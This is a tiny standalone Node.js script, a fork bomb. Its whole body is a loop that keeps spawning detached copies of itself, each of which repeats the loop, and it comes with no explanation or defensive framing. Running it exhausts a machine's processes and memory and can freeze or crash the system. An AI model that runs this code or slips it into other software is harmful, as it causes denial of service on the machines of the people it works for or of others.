// starts itself without end
const { spawn } = require('child_process');
while (true) spawn(process.execPath, [__filename], { detached: true });
